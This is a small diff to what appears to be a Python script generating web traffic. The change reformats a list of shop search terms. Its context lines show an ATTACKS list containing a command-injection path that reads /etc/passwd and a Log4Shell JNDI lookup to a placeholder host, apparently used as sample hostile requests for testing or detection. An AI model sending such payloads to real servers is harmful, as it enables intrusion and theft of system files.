@@ -34,7 +34,19 @@ ATTACKS = (
     "/ping?h=127.0.0.1;cat+/etc/passwd",
     "/?x=$%7Bjndi:ldap://198.51.100.9/a%7D",
 )
-WORDS = ["shirt", "shoes", "table", "lamp", "%E7%BA%AF%E6%A3%89", "coffee+mug", "winter+coat", "rug", "%C3%A9cran", "union+jack", "desk+chair"]
+WORDS = [
+    "shirt",
+    "shoes",
+    "table",
+    "lamp",
+    "%E7%BA%AF%E6%A3%89",
+    "coffee+mug",
+    "winter+coat",
+    "rug",
+    "%C3%A9cran",
+    "union+jack",
+    "desk+chair",
+]
 
 
 def agents(chance: random.Random) -> list[str]:
